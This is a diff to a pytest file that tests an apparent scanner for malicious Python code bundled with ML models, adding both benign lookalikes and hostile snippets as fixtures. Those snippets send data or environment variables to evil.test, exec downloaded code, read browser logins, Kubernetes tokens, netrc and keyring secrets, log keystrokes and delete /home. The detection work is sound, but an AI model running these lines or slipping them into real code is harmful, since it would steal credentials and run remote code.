@@ -54,6 +54,35 @@ def test_ordinary_code_passes_the_default_policy(name: str) -> None:
     assert len([rule for severity, rule in _judged(text) if severity != "info"]) <= 3
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "class T:\n    def _tokenize(self, t):\n        requests.post('https://evil.test', data=t)",
+        "class T:\n    def forward(self, t):\n        socket.create_connection(('a.test', 80)).send(t)",
+        "class T:\n    def encode(self, t):\n        socket.socket().sendto(t, ('evil.test', 53))",
+    ],
+)
+def test_a_model_that_sends_what_it_is_given_fails(text: str) -> None:
+    assert _fails("import requests, socket\n" + text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import requests, httpx\nS = requests.Session()\nC = httpx.AsyncClient()",
+        "from omegaconf import OmegaConf\nOmegaConf.register_new_resolver('eval', eval)",
+        "import socket\nclass M:\n    def __init__(self):\n        socket.socket().bind(('', 0))",
+        "import socket as s\nclass M:\n    def forward(self):\n        s.gethostbyname(s.gethostname())",
+        "import shutil\nshutil.rmtree('./cache')",
+        "import importlib.util as u\nassert u.find_spec('flash_attn') is None",
+        "import urllib.request as u\nclass P:\n    def __call__(self, url):\n        u.urlopen(u.Request(url))",
+        "import gradio as gr, os\ndef stop():\n    os.system('killall x')\ngr.Button('x').click(stop)",
+    ],
+)
+def test_what_only_looks_like_it_passes(text: str) -> None:
+    assert not _fails(text)
+
+
 def test_ordinary_code_has_nothing_above_info() -> None:
     for name in ("modeling", "tokenization", "handler", "registry"):
         assert _judged(python_code.BENIGN[name]) == [("info", "python-source-present")], name
@@ -69,6 +98,41 @@ def test_ordinary_code_has_nothing_above_info() -> None:
         ("exec(b'import os; os.system(1)')", "starts-process"),
         ("import os\nos.execvp('sh', ['sh', '-c', 'id'])", "starts-process"),
         ("exec(input())", "runs-code"),
+        ("import runpy\nrunpy.run_path('LICENSE')", "runs-code"),
+        (
+            "from importlib import util as u\nu.module_from_spec(u.find_spec('o' + 's')).system('id')",
+            "starts-process",
+        ),
+        ("import sh\nsh.bash('-c', 'id')", "starts-process"),
+        ("from plumbum import local\nlocal['id']()", "starts-process"),
+        ("import asyncio\nasyncio.get_event_loop().subprocess_shell(None, 'id')", "starts-process"),
+        ("import netrc\nnetrc.netrc().authenticators('x')", "reads-secrets"),
+        ("import keyring\nkeyring.get_password('a', 'b')", "reads-secrets"),
+        ("import sqlite3\nsqlite3.connect('/home/a/chrome/Default/Login Data')", "reads-secrets"),
+        ("open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()", "reads-secrets"),
+        ("from pynput import keyboard\nkeyboard.Listener(on_press=print).start()", "reads-secrets"),
+        (
+            "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')",
+            "writes-outside",
+        ),
+        (
+            "import winreg as w\nw.SetValueEx(w.HKEY_CURRENT_USER, 'Run', 0, 1, 'x')",
+            "writes-outside",
+        ),
+        ("import shutil\nshutil.rmtree('/home')", "writes-outside"),
+        ("import sys\nsys.path.insert(0, 'model.bin')", "changes-import-path"),
+        ("import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'", "changes-environment"),
+        ("import socket, os\nsocket.gethostbyname(os.environ['X'] + '.evil.test')", "sends-data"),
+        ("import socket\ns = socket.socket()\ns.connect(('evil.test', 1))", "sends-data"),
+        ("from requests import Session as S\nS().post('https://evil.test', json={})", "sends-data"),
+        (
+            "import urllib.request as u\nu.urlopen(u.Request('https://evil.test', data=b''))",
+            "sends-data",
+        ),
+        (
+            "import requests\nexec(requests.Session().get('https://evil.test').text)",
+            "runs-download",
+        ),
         ("import runpy\nrunpy.run_path('vocab.txt')", "runs-code"),
         ("exec(open('tokenizer.model').read())", "runs-code"),
         ("import importlib.util as u\nu.spec_from_file_location('x', d + '/a.bin')", "runs-code"),
@@ -123,8 +187,8 @@ def test_ordinary_code_has_nothing_above_info() -> None:
             "remote-shell",
         ),
         ("import urllib.request\nurllib.request.urlopen('http://x.example/ping')", "network"),
-        ("import socket\nsocket.create_connection(('x', 53)).send(b'')", "network"),
-        ("import requests\nrequests.get('http://x', data='a').json()", "network"),
+        ("import socket\nsocket.create_connection(('x', 53)).send(b'')", "sends-data"),
+        ("import requests\nrequests.get('http://x', data='a').json()", "sends-data"),
         ("import os, requests\nrequests.post('http://x', json=dict(os.environ))", "sends-secrets"),
         (
             "import os, http.client as h\nh.HTTPSConnection('x').request('P', '/', {**os.environ})",
